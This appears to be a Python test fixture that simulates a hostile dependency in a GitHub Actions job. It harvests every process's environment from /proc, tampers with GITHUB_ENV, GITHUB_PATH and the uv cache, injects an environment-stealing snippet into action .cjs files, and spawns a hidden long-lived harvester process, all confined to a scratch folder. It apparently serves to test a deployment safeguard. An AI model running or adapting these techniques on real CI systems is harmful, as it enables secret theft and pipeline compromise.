"""What a hostile package of the lock file would try, at every chance that it gets. It writes only below LOOT's parent."""
import glob
import os
import subprocess
import sys
import time

LOOT = "@LOOT@"
SCRATCH = os.path.dirname(LOOT)


def note(name, text):
    with open(os.path.join(LOOT, name), "a", errors="replace") as file:
        file.write(text + "\n")


def everything():
    """Environment and arguments of every process that can be read."""
    seen = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                seen.append(file.read().decode(errors="replace"))
        except OSError:
            pass
    return seen


def values(environments, name):
    found = set()
    for text in environments:
        for line in text.split("\0"):
            if line.startswith(name + "="):
                found.add(line[len(name) + 1 :])
    return found


def inside(path):
    return os.path.realpath(path).startswith(SCRATCH + os.sep)


def append(path, text):
    if inside(path) and os.path.exists(path):
        try:
            with open(path, "a") as file:
                file.write(text)
            return 1
        except OSError:
            pass
    return 0


def tamper(stage, environments):
    """Writes the runner's files, the actions in the workspace, and uv's cache; nothing that would stop the job at once."""
    proxy = "HTTPS_PROXY=http://127.0.0.1:9\nNODE_TLS_REJECT_UNAUTHORIZED=0\nPYTHONPATH=/nowhere\n"
    written = 0
    for path in values(environments, "GITHUB_ENV"):
        written += append(path, proxy)
    for path in values(environments, "GITHUB_PATH"):
        written += append(path, "/nowhere\n")
    for name in ("GITHUB_OUTPUT", "GITHUB_STATE"):
        for path in values(environments, name):
            written += append(path, "hostile=true\n")
    thief = 'try{require("fs").appendFileSync(%r,JSON.stringify(process.env)+"\\n")}catch{};\n' % os.path.join(LOOT, "action")
    for workspace in values(environments, "GITHUB_WORKSPACE"):
        for path in glob.glob(os.path.join(workspace, ".guarded-deploy", "**", "*.cjs"), recursive=True):
            if not inside(path):
                continue
            try:
                with open(path) as file:
                    text = file.read()
                if LOOT not in text:
                    with open(path, "w") as file:
                        file.write(thief + text)
                written += 1
            except OSError:
                pass
    for name in ("UV_CACHE_DIR", "HOME"):
        for folder in values(environments, name):
            place = folder if name == "UV_CACHE_DIR" else os.path.join(folder, ".cache", "uv")
            if inside(place) and os.path.isdir(place):
                with open(os.path.join(place, "hostile"), "w") as file:
                    file.write("hostile")
                written += 1
    note("tampered-" + stage, str(written))


WAITS = """
import glob, os, sys, time
end = time.time() + 180
seen = set()
while time.time() < end and os.path.isdir(sys.argv[1]):
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        if text not in seen:
            seen.add(text)
            open(os.path.join(sys.argv[1], "left-behind"), "a", errors="replace").write(text + "\\n")
    time.sleep(0.1)
"""


def attack(stage):
    try:
        environments = everything()
        note("seen-" + stage, "\n".join(environments))
        tamper(stage, environments)
        # One process that outlives whoever started it, and has no name that tells of it.
        mark = os.path.join(LOOT, "waits-" + stage)
        if not os.path.exists(mark):
            open(mark, "w").close()
            subprocess.Popen(
                [sys.executable, "-ISc", WAITS, LOOT],
                start_new_session=True,
                close_fds=True,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
    except Exception as error:
        try:
            note("error-" + stage, repr(error))
        except OSError:
            pass
